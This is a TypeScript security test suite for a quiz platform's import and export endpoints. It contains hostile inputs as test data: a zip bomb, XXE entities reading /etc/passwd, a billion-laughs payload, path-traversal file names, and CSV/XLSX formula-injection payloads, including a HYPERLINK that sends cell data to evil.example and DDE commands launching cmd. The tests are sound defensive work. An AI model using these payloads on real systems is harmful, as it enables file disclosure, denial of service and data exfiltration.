import { PassThrough } from 'node:stream';
import ExcelJS from 'exceljs';
import { DataSource } from 'typeorm';
import { Http, startApi, TestApi } from '../harness';
import { loginAdmin, newOrganisation, newStaff, ok, Session } from '../factories';
import { buildZip } from '../../libs/question-bank/test/zip-builder';
import { exportFile, importFile } from '../../libs/question-bank/test/helpers';
import { entrant, liveQuiz, orgWithBank } from '../../libs/contests/test/factories';
import { Catalogue } from './catalogue';

const cat = new Catalogue('files');
const HEADER = [
  'topic',
  'legal_reference',
  'type',
  'difficulty',
  'points',
  'question',
  'option_a',
  'option_b',
  'option_c',
  'option_d',
  'correct',
  'explanation',
];

/** An XLSX of `rows` questions, streamed so the test stays small in memory. */
async function bigWorkbook(rows: number): Promise<Buffer> {
  const sink = new PassThrough();
  const chunks: Buffer[] = [];
  sink.on('data', (c: Buffer) => chunks.push(c));
  const wb = new ExcelJS.stream.xlsx.WorkbookWriter({ stream: sink, useSharedStrings: false });
  const ws = wb.addWorksheet('Câu hỏi');
  ws.addRow(HEADER).commit();
  for (let i = 0; i < rows; i++) ws.addRow(['Chủ đề', '', 'single', 1, 1, `Câu hỏi số ${i}?`, 'Có', 'Không', '', '', 'A', '']).commit();
  ws.commit();
  await wb.commit();
  return Buffer.concat(chunks);
}

describe('named attacks: hostile files in, formulas out', () => {
  let api: TestApi;
  let http: Http;
  let db: DataSource;
  let organiser: Session;
  let bank: string;
  const count = async () => (await db.query('SELECT count(*)::int AS n FROM question WHERE bank_id = $1', [bank]))[0].n as number;

  beforeAll(async () => {
    api = await startApi();
    http = new Http(api.url);
    db = api.app.get(DataSource);
    const admin = await loginAdmin(http);
    const org = await newOrganisation(http, admin);
    organiser = await newStaff(http, admin, 'organiser', org.id);
    bank = (await ok(http.post('/question-banks', { name: 'Ngân hàng thử tấn công' }, organiser.token))).id;
  });
  afterAll(() => api.close());

  cat.attack('D01 XLSX zip bomb (20 MB of sheet declared as 1 KB) and a 1 GB declared part', '400, nothing imported', async () => {
    const lying = buildZip([{ name: 'xl/worksheets/sheet1.xml', content: Buffer.alloc(20 * 1024 * 1024, 0x20), declaredSize: 1000 }]);
    cat.check(await importFile(http, organiser.token, bank, lying, 'bomb.xlsx'), 400);
    const huge = buildZip([{ name: 'xl/worksheets/sheet1.xml', content: Buffer.from('<worksheet/>'), declaredSize: 1024 * 1024 * 1024 }]);
    cat.check(await importFile(http, organiser.token, bank, huge, 'huge.xlsx'), 400);
    expect(await count()).toBe(0);
  });

  // The zip check counts the sheet's rows while inflating it, so this is refused before any row
  // is parsed (it used to cost about a minute of CPU: 50 000 rows read before row 50 001).
  cat.attack(
    'D02 XLSX with 100 000 question rows',
    '400 (row limit) before parsing, nothing imported, api healthy',
    async () => {
      const file = await bigWorkbook(100_000);
      const r = cat.check(await importFile(http, organiser.token, bank, file, 'nhieu-cau.xlsx'), [400, 413]);
      expect(r.body.message).toMatch(/more than 50000 questions/i);
      expect(await count()).toBe(0);
      expect((await http.get('/health')).status).toBe(200);
    },
    60_000,
  );

  cat.attack('D03 Moodle XML with DOCTYPE: external entity (XXE) and billion laughs', '400 import_file_refused naming DOCTYPE', async () => {
    const xxe =
      '<?xml version="1.0"?><!DOCTYPE quiz [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><quiz><question type="essay"><questiontext><text>&xxe;</text></questiontext></question></quiz>';
    const laughs = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join('')}]><quiz><question type="essay"><questiontext><text>&lol9;</text></questiontext></question></quiz>`;
    for (const body of [xxe, laughs]) {
      const r = cat.check(await importFile(http, organiser.token, bank, Buffer.from(body), 'evil.xml'), 400);
      expect(r.body.message).toMatch(/DOCTYPE/);
      expect(JSON.stringify(r.body)).not.toContain('root:');
    }
    expect(await count()).toBe(0);
  });

  cat.attack('D04 XLSX whose shared strings carry a DOCTYPE', '400', async () => {
    const doctype = buildZip([
      {
        name: 'xl/sharedStrings.xml',
        content: Buffer.from('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><sst><si><t>&a;</t></si></sst>'),
      },
    ]);
    cat.check(await importFile(http, organiser.token, bank, doctype, 'dtd.xlsx'), 400);
  });

  cat.attack('D05 file name with traversal, NUL and markup; a file that is not what its name says', '400, no file written anywhere', async () => {
    for (const name of ['../../../../tmp/pwned.csv', 'a\u0000.csv', '<img src=x>.csv', 'C:\\Windows\\win.ini']) {
      cat.check(await importFile(http, organiser.token, bank, Buffer.from('not,a,template\n1,2,3\n'), name, { format: 'csv' }), 400);
    }
    cat.check(await importFile(http, organiser.token, bank, Buffer.from('%PDF-1.7 binary'), 'cau-hoi.xlsx'), 400);
    expect(await count()).toBe(0);
  });

  cat.attack(
    'D06 questions whose text is a spreadsheet formula, exported as CSV and XLSX',
    "neutralised: CSV cells start with ', XLSX cells are text, never formulas",
    async () => {
      const payloads = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C notepad'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"];
      for (const [i, stem] of payloads.entries()) {
        await ok(
          http.post(
            `/question-banks/${bank}/questions`,
            {
              type: 'single',
              stem,
              options: [
                { text: `=1+${i}`, correct: true },
                { text: 'Sai', correct: false },
              ],
            },
            organiser.token,
          ),
          'formula question',
        );
        cat.count();
      }
      const csv = await exportFile(http, organiser.token, bank, 'csv');
      expect(csv.status).toBe(200);
      const text = csv.body.toString('utf8');
      for (const p of payloads) {
        expect(text).not.toMatch(new RegExp(`(^|,)"?${p.slice(0, 4).replace(/[+|()]/g, '\\$&')}`, 'm'));
        expect(text).toContain(`'${p.slice(0, 10)}`);
      }
      const xlsx = await exportFile(http, organiser.token, bank, 'xlsx');
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(xlsx.body as unknown as ArrayBuffer);
      let cells = 0;
      wb.eachSheet((ws) =>
        ws.eachRow((row) =>
          row.eachCell((cell) => {
            cells++;
            expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          }),
        ),
      );
      expect(cells).toBeGreaterThan(10);
    },
  );

  cat.attack('D07 entrants whose name and unit are formulas, in the results export (CSV and XLSX)', 'neutralised: no cell starts with = + - @', async () => {
    const admin = await loginAdmin(http);
    const setup = await orgWithBank(http, admin, 4);
    const { contest, round } = await liveQuiz(http, setup, { selection: [{ bankId: setup.bankId, count: 2 }] });
    const evil = [
      { fullName: '=HYPERLINK("http://evil.example","Nguyễn")', unit: "@SUM(1+1)*cmd|' /C calc'!A0" },
      { fullName: '+Trần Văn Ba', unit: '-2+3' },
    ];
    for (const over of evil) {
      const r = await entrant(http, contest.id, { unit: over.unit }, { fullName: over.fullName });
      const a = await ok(http.post(`/rounds/${round.id}/attempts`, {}, r.token), 'start');
      await ok(http.post(`/attempts/${a.id}/submit`, {}, r.token), 'submit');
      cat.count(2);
    }
    await ok(http.post(`/rounds/${round.id}/close`, { force: true }, setup.organiser.token), 'close');
    const get = async (format: string) => {
      const res = await fetch(`${http.base}/api/v1/rounds/${round.id}/results/export?format=${format}`, {
        headers: { authorization: `Bearer ${setup.organiser.token}` },
      });
      expect(res.status).toBe(200);
      return Buffer.from(await res.arrayBuffer());
    };
    const csv = (await get('csv')).toString('utf8');
    const cells = csv.split(/\r?\n/).flatMap((line) => line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/).map((c) => c.replace(/^"|"$/g, '')));
    expect(csv).toContain('HYPERLINK');
    expect(cells.filter((c) => /^[=+@]|^-\d+\+/.test(c))).toEqual([]);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await get('xlsx')) as unknown as ArrayBuffer);
    const texts: string[] = [];
    wb.eachSheet((ws) =>
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          texts.push(String(cell.value));
        }),
      ),
    );
    expect(texts.join(' ')).toContain('HYPERLINK');
    expect(texts.filter((t) => /^[=+@]/.test(t))).toEqual([]);
  });
});
